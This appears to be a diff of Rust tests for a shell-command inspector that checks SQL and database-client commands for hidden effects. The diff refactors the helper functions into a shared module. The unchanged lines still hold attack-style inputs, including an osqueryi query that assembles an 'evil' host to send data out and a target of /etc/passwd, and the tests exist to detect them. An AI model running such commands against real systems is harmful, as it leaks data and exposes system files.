@@ -1,36 +1,9 @@
 //! Blocks of procedural SQL, tables that lie elsewhere, settings of databases: attacks, and the ordinary statements that look like them.
 
-use countersign_inspect::{Context, FindingKind, Inspection};
-use countersign_plan::inspection::Subject;
+use countersign_inspect::FindingKind;
 use countersign_plan::tool::{Effect, TargetKind};
 
-fn inspect(line: &str) -> Inspection {
-    let context = Context::new("/home/user/project", "/home/user");
-    countersign_inspect::inspect(&Subject::Shell { line: line.to_owned(), context })
-}
-
-fn finds(kind: FindingKind, attacks: &[&str], ordinary: &[&str]) {
-    for line in attacks {
-        assert!(inspect(line).found(kind), "{line}: {:#?}", inspect(line));
-    }
-    for line in ordinary {
-        assert!(!inspect(line).found(kind), "{line}: {:#?}", inspect(line));
-    }
-}
-
-/// The first are understood, the others are not.
-fn reads(ordinary: &[&str], beyond: &[&str]) {
-    for line in ordinary {
-        assert!(inspect(line).unknowns.is_empty(), "{line}: {:#?}", inspect(line));
-    }
-    for line in beyond {
-        assert!(!inspect(line).unknowns.is_empty(), "{line}: {:#?}", inspect(line));
-    }
-}
-
-fn touches(line: &str, effect: Effect, kind: TargetKind, name: &str) -> bool {
-    inspect(line).touches.iter().any(|touch| touch.effect == effect && touch.kind == kind && touch.name == name)
-}
+use crate::seen::{finds, inspect, reads, touches_kind};
 
 #[test]
 fn whatever_leads_to_a_statement_of_a_block_hides_none() {
@@ -145,7 +118,7 @@ fn whatever_leads_to_a_statement_of_a_block_hides_none() {
             "/etc/passwd",
         ),
     ] {
-        assert!(touches(line, effect, kind, name), "{line}: {:#?}", inspect(line));
+        assert!(touches_kind(line, effect, kind, name), "{line}: {:#?}", inspect(line));
     }
     reads(
         &[
@@ -256,7 +229,7 @@ fn tables_that_lie_elsewhere_are_asked_there() {
         ),
         ("osqueryi \"SELECT * FROM curl WHERE url='http://'||'evil'||'/x'\"", Effect::Send, TargetKind::Host, "?"),
     ] {
-        assert!(touches(line, effect, kind, name), "{line}: {:#?}", inspect(line));
+        assert!(touches_kind(line, effect, kind, name), "{line}: {:#?}", inspect(line));
     }
     reads(
         &["clickhouse-client -q \"CREATE TABLE t (a Int32) ENGINE = MergeTree ORDER BY a\""],
@@ -285,7 +258,7 @@ fn settings_and_files_of_databases_are_named_in_more_than_one_way() {
             "/srv/a.db",
         ),
     ] {
-        assert!(touches(line, effect, kind, name), "{line}: {:#?}", inspect(line));
+        assert!(touches_kind(line, effect, kind, name), "{line}: {:#?}", inspect(line));
     }
     reads(
         &[
